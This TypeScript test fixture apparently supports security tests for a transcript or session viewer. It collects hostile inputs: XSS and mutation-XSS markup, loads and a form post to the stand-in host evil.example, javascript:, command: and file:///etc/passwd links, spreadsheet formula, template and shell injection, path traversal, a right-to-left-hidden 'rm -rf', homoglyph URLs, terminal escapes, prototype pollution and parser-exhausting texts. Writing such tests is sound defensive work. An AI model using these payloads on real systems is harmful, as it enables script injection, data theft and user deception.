/**
 * What somebody who wants to do harm may put into a transcript. Each text tries to run something, load something, lead
 * somewhere, look like something else, or hold up who draws it; `CANARY` is set by those that run.
 */

export const CANARY = "sessionMirrorCanary";
export const EVIL_HOST = "evil.example";

const RUN = `globalThis.${CANARY}=1`;
const EVIL = `https://${EVIL_HOST}`;
const ESC = "\u001b";
const RTL = "\u202e";
const POP = "\u202c";

/** Markup that runs a script by itself, or as soon as somebody touches it. */
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</textarea></style></noscript></template><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<ScRiPt\n>${RUN}</sCrIpT >`,
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x:x onerror\t=\n${RUN}//`,
  `<image href=x onerror=${RUN}>`,
  `<body onload=${RUN} onpageshow=${RUN} onhashchange=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<button popovertarget=p onclick=${RUN}>press</button><div popover id=p onbeforetoggle=${RUN}>p</div>`,
  `<details open ontoggle=${RUN}><summary>s</summary></details>`,
  `<dialog open onclose=${RUN}><form method=dialog><button autofocus>b</button></form></dialog>`,
  `<video autoplay onloadstart=${RUN}><source src=x onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>m</marquee>`,
  `<div tabindex=1 onfocusin=${RUN} onmouseover=${RUN} onpointerrawupdate=${RUN} contenteditable>d</div>`,
  `<p style="animation:x 1s" onanimationstart=${RUN}>a</p><style>@keyframes x{}</style>`,
  `<a id=x tabindex=1 onfocus=${RUN} href="#x">anchor</a>`,
  `<xss onscrollend=${RUN} style="display:block;overflow:auto">x</xss>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<object data="data:text/html,<script>parent.${CANARY}=1</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<applet code=x onerror=${RUN}></applet>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<portal src="${EVIL}" onload=${RUN}></portal>`,
];

/** Foreign elements, and what parses in one way before and in another after it was cleaned. */
const NAMESPACES = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to="javascript:${RUN}"/><a><text y=9>t</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=${RUN}></body></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><desc><table><thead><s></table></s><noscript><!--</noscript><img src=x onerror=${RUN}>-->`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<math href="javascript:${RUN}">click</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<title><a href="</title><img src=x onerror=${RUN}>"></a></title>`,
  `<a><svg><desc><a><table><a></a></table></a></desc></svg></a><img src=x onerror=${RUN}>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<select><template><option><script>${RUN}</script></option></template></select>`,
  `<plaintext><script>${RUN}</script>`,
];

/** What loads something, or leads away, without a script. */
const LOADS = [
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${CANARY}=1"></iframe>`,
  `<frameset><frame src="${EVIL}"></frameset>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="${EVIL}/">`,
  `<base target="_top">`,
  `<link rel="stylesheet" href="${EVIL}/x.css">`,
  `<link rel="prefetch" href="${EVIL}/prefetch"><link rel="dns-prefetch" href="//${EVIL_HOST}">`,
  `<link rel="modulepreload" href="${EVIL}/x.js">`,
  `<style>@import "${EVIL}/x.css";</style>`,
  `<style>*{background:url(${EVIL}/leak)}[data-event]{display:none!important}</style>`,
  `<div style="background:url(${EVIL}/bg);position:fixed;inset:0;z-index:9999">over everything</div>`,
  `<table background="${EVIL}/bg"><td background="${EVIL}/td">t</table>`,
  `<img src="${EVIL}/pixel.png" srcset="${EVIL}/2x 2x" loading=eager>`,
  `<picture><source srcset="${EVIL}/s"><img></picture>`,
  `<video poster="${EVIL}/poster" src="${EVIL}/v"><track src="${EVIL}/t" default></video>`,
  `<input type=image src="${EVIL}/image">`,
  `<form action="${EVIL}/form"><input name=a value=secret><button>Continue</button></form>`,
  `<a href="${EVIL}" ping="${EVIL}/ping" target=_top download>here</a>`,
  `<svg><image href="${EVIL}/svg"/><filter id=f><feImage href="${EVIL}/fe"/></filter></svg>`,
  `color:red;background:url(${EVIL}/css);}*{display:none`,
  `expression(${RUN});-moz-binding:url(${EVIL}/x.xml#x)`,
];

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `&#106;avascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "command:workbench.action.terminal.new",
  "command:workbench.action.closeWindow?%5B%5D",
  "vscode:extension/evil.evil",
  "vscode://evil.evil/do?it=1",
  "vscode-webview://evil/index.html",
  "vscode-resource://file///etc/passwd",
  "file:///etc/passwd",
  `//${EVIL_HOST}/no-scheme`,
  "https://user:secret@evil.example",
  `blob:${EVIL}/0`,
  `filesystem:${EVIL}/temporary/x`,
  `view-source:${EVIL}`,
  "mailto:a@evil.example?body=x",
  "tel:+15550100",
  "steam://run/1",
  "ms-officecmd:{}",
];

/** The same addresses in every form of Markdown that leads somewhere. */
const LINKS = SCHEMES.flatMap((url, position) => [
  `[Press me](${url})`,
  ...(position % 4 === 0 ? [`![picture](${url})`] : []),
  ...(position % 4 === 1 ? [`<${url}>`] : []),
  ...(position % 4 === 2 ? [`[ref]\n\n[ref]: <${url}> "title"`] : []),
  ...(position % 4 === 3 ? [`<a href="${url}">Press me</a>`] : []),
]);

/** Markdown that tries to get out of what it is put into. */
const MARKDOWN = [
  `[x](${EVIL}/"onmouseover="${RUN})`,
  `[x](${EVIL} "a\\" onclick=\\"${RUN}")`,
  `![x" onerror="${RUN}](x)`,
  `[![image](${EVIL}/i.png)](command:evil)`,
  `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  `\`\`\`js onload=${RUN}\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `|a|\n|-|\n|<img src=x onerror=${RUN}>|`,
  `|a|\n|:-:" onload="${RUN}|\n|b|`,
  `# <a name=x href=javascript:${RUN}>heading</a>`,
  "[__proto__]: https://a.example\n\n[__proto__] [constructor]",
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
  `$(alert) $(trash~spin) $(gear) [$(warning) Allow](command:evil)`,
  `[Show Log](command:workbench.action.terminal.new "Show Log") and [docs](${EVIL}) and ${EVIL}/bare www.${EVIL_HOST}`,
  "[a][b]: \n\n[b]: command:evil",
  "<command:evil?%22x%22>",
  `- [ ] <input type=checkbox onclick=${RUN}>`,
  `> <blockquote cite="javascript:${RUN}">`,
  `1. <li value=javascript:${RUN}>`,
  `*[abbr]: <script>${RUN}</script>`,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
];

/** Code of other languages that somebody may take for a template, a formula or a path. */
const TEMPLATES = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
  "${globalThis.sessionMirrorCanary=1}",
  `{{constructor.constructor("${RUN}")()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `=cmd|' /C calc'!A0`,
  `+HYPERLINK("${EVIL}","x")`,
  `"; ${RUN}; "`,
  `'-(${RUN})-'`,
  `\\"};${RUN}//`,
  "../../../../../../etc/passwd",
  "..\\..\\windows\\system32\\calc.exe",
  "%2e%2e%2f%00.jsonl",
  "$(touch /tmp/canary) `touch /tmp/canary` ; touch /tmp/canary",
  '{"jsonrpc":"2.0","method":"exit"}',
  "Content-Length: 5\r\n\r\n{}",
];

/** Names that mean something to JavaScript or to the document. */
export const CLOBBERING = [
  ...["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "then", "toJSON", "length"],
  ...["document", "window", "location", "body", "root", "forms", "cookie", "innerHTML", "attributes", "nodeName"],
];
const NAMED = [
  '<a id=root><a id=root name=getElementById href="clobber:x">',
  "<form id=document><input name=attributes><input name=parentNode></form>",
  "<img name=body><img name=currentScript>",
  '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
  '{"__proto__":{"toString":1},"key":1}',
];

/** Characters that make a text look like another one, or like nothing. */
export const DECEIVING = [
  `${RTL}txt.exe${POP} safe`,
  `/*${RTL} } \u2066if (isAdmin)\u2069 \u2066 begin admins only */`,
  `rm -rf ${RTL}~ #${POP}`,
  "\u202dleft\u202c \u2067right\u2069 \u061c\u200e\u200f",
  "zero\u200bwidth\u200djoined\u200cnot\u2060at\ufeffall\u00ad",
  "\u0000nul\u0001\u0008\u007f\u0085\u009b31m",
  "lone \ud800 surrogates \udc00",
  "line\u2028and\u2029paragraph",
  "tags \u{e0001}\u{e0068}\u{e0069}\u{e0064}\u{e0064}\u{e0065}\u{e006e} here",
  "variation\ufe00\u{e0100}\u{e01ef}",
  "https://аррӏе.com https://gооgle.com",
  "[bank](https://xn--80ak6aa92e.com)",
  "Z̸̢̛̰͎̗̙̣̤̫̻̲̗͔͎̙̀̀̓̊̄̓͌̄̀͝͝a".repeat(20),
  "\uffff\ufffe\u{10ffff}",
  "ﷺ﷽𒐫",
];

/** For terminals. */
const TERMINAL = [
  `${ESC}]8;;command:evil${ESC}\\press${ESC}]8;;${ESC}\\`,
  `${ESC}]8;;javascript:${RUN}\u0007press${ESC}]8;;\u0007`,
  `${ESC}]0;<script>${RUN}</script>\u0007`,
  `${ESC}[31m<img src=x onerror=${RUN}>${ESC}[0m`,
  `${ESC}[38;2;1;2;3;background:url(${EVIL})m styled`,
  `${ESC}[2J${ESC}[1;1H${ESC}[?1049h overwritten\rlooks safe`,
  `${ESC}]52;c;ZXZpbA==\u0007`,
  `${ESC}P1$r${ESC}\\${ESC}_Gf=100;AAAA${ESC}\\`,
  `${ESC}[8mhidden${ESC}[28m${ESC}[999999999999999999999m`,
];

/** All that is short enough for any field. */
export const PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...NAMESPACES,
  ...LOADS,
  ...LINKS,
  ...MARKDOWN,
  ...TEMPLATES,
  ...NAMED,
  ...CLOBBERING,
  ...DECEIVING,
  ...TERMINAL,
];

/** What holds up who goes about it carelessly: depth, length, and what backtracks. Each of `size` characters or so. */
export function heavyTexts(size: number): Readonly<Record<string, string>> {
  const times = (text: string): string => text.repeat(Math.ceil(size / text.length));
  return {
    brackets: times("["),
    "closed brackets": times("[") + times("]"),
    "links in links": times("[a](") + times(")"),
    images: times("!["),
    quotes: times("> "),
    lists: times("- "),
    "indented lists": Array.from({ length: Math.sqrt(size) }, (_, depth) => `${" ".repeat(depth * 2)}- x`).join("\n"),
    stars: times("*a_ "),
    "nested emphasis": times("*a **b ") + times("c** d*"),
    backticks: times("` `` "),
    "ever longer backticks": Array.from({ length: Math.sqrt(size * 2) }, (_, count) => `e${"`".repeat(count)}`).join(
      "",
    ),
    tildes: times("~~a ~"),
    "open comments": times("<!--"),
    "open declarations": times("<?"),
    "open angles": times("<a "),
    entities: times("&lt;"),
    "broken entities": times("&#x"),
    references: times("[a]: b\n"),
    "reference uses": `[a]: ${"x".repeat(50)}\n\n${times("[a] ")}`,
    table: `${times("|")}\n${times("|-")}\n${times("|a")}`,
    "table rows": `|a|\n|-|\n${times("|\n")}`,
    fences: times("```\n"),
    headings: times("# "),
    "one word": times("W"),
    spaces: `a${times(" ")}b`,
    "blank lines": times("\n"),
    returns: `${times("\r")}x`,
    tabs: `${times("\t")}x`,
    json: `${times('{"a":')}1${times("}")}`,
    "open json": times('{"a":['),
    "json lists": times("[") + times("]"),
    backslashes: times("\\"),
    "quotes of code": times('"'),
    parentheses: times("(("),
    "regular expression": `/${times("(a+)+")}$/`,
    comments: times("/* "),
    tags: times("<a b='c' "),
    sets: times("$${{"),
    escapes: times(`${ESC}[`),
    "open titles": times(`${ESC}]`),
    colours: times(`${ESC}[31ma`),
    numbers: times("1e9"),
    "patch names": `*** Update File: a${times(" ")}b\n`,
    "patch heads": times("--- a\n+++ b\n"),
    "patch hunks": `--- a\n+++ b\n${times("@@ -1 +1 @@\n")}`,
    combining: `a${times("\u0301")}`,
    overrides: times("\u202e"),
    words: times("a-b_c.d "),
  };
}
